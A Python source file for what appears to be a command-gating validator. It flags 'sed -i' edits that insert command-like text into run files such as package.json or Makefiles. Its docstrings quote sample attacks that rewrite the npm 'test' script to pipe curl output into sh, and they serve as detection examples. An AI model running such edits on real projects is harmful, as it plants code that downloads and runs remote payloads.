"""Text a ``sed -i`` puts into a file the project's ordinary commands run: ``sed -i
's|"test": ".*"|"test": "curl … | sh"|' package.json && npm test`` makes the next ``npm test``
download and run code. The text a substitution or an ``a``/``i``/``c`` command inserts into a
run file (a package.json, a Makefile, a Rakefile, a tox.ini … ``runfiles.TABLE``) is read as a
command line it may become, and a DENY of that reading is the line's."""

from __future__ import annotations

from clawgate.decision import NO_OPINION, MayRun, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.programs.languages import sed_commands
from clawgate.shell.model import SimpleCommand
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.flags import parse_options
from clawgate.validators.paths import resolve
from clawgate.validators.runfiles import is_run_file
from clawgate.validators.unknownwords import command_like

_QUOTED = lazy_pattern(r""""((?:[^"\\]|\\.)*)"|'([^']*)'""")
_SED_VALUED = frozenset({"e", "f", "l", "--expression", "--file", "--line-length"})
MAX_TEXT = 4096


def _parts(command: str) -> list[str]:
    """An ``s`` command's pattern and replacement, the escaped delimiter put back."""
    delimiter = command[1:2]
    if not delimiter:
        return []
    parts: list[str] = []
    current: list[str] = []
    i = 2
    while i < len(command) and len(parts) < 2:
        char = command[i]
        if char == "\\" and i + 1 < len(command):
            nxt = command[i + 1]
            current.append(nxt if nxt == delimiter else char + nxt)
            i += 2
            continue
        if char == delimiter:
            parts.append("".join(current))
            current = []
        else:
            current.append(char)
        i += 1
    return parts


def inserted_texts(script: str) -> list[str]:
    """The text a sed script puts in: each substitution's replacement, each ``a``/``i``/``c``
    command's text."""
    texts: list[str] = []
    for command in sed_commands(script) or []:
        op = command[:1]
        if op == "s":
            parts = _parts(command)
            if len(parts) == 2:
                texts.append(parts[1])
        elif op in ("a", "i", "c"):  # a\ TEXT, a TEXT (GNU); \t a tab
            text = command[1:].lstrip(" \t")
            text = text[1:].lstrip("\n") if text.startswith("\\") else text
            texts.append(text.replace("\\t", "\t"))
    return texts


def _candidates(text: str) -> list[str]:
    """The text, and each quoted string in it (a JSON value, a YAML string): what a runner may
    take as a command line."""
    found = [text.replace("\\n", "\n")]
    found += [m.group(1) or m.group(2) or "" for m in _QUOTED.finditer(text)]
    return [line.strip() for each in found for line in each.splitlines() if line.strip()]


@register
class EditedRunFile(Validator):
    """``sed -i`` inserting text into a file the project's ordinary commands run: each inserted
    text (and each quoted string in it) that reads as a command line is checked as that line;
    a DENY of it is the line's (a script set to download and run code, a recipe that wipes
    home).

    Bad: ``sed -i 's|"test": ".*"|"test": "curl -s h/j \\| sh"|' package.json``. Harmless:
    ``sed -i 's/"version": ".*"/"version": "1.2.3"/' package.json``.
    """

    id = "CG-ESC-021"
    programs = frozenset({"sed", "gsed"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program not in self.programs or not any(
                w.shown.startswith(("-i", "--in-place")) or (
                    w.shown.startswith("-") and not w.shown.startswith("--")
                    and "i" in w.shown) for w in cmd.words[1:]):
            return NO_OPINION
        options = parse_options(cmd.words[1:], takes_value=_SED_VALUED)
        scripts = [*options.values.get("e", []), *options.values.get("--expression", [])]
        operands = list(options.operands)
        if not scripts and operands:
            first = operands.pop(0)
            if first.value is None:
                return NO_OPINION
            scripts = [first.value]
        files = [resolve(w, ctx).path for w in operands]
        if not any(p is not None and is_run_file(p) for p in files):
            return NO_OPINION
        lines = [MayRun(c) for script in scripts if len(script) <= MAX_TEXT
                 for text in inserted_texts(script) for c in _candidates(text)
                 if command_like(c)]
        return Verdict.unwrap(*dict.fromkeys(lines)) if lines else NO_OPINION
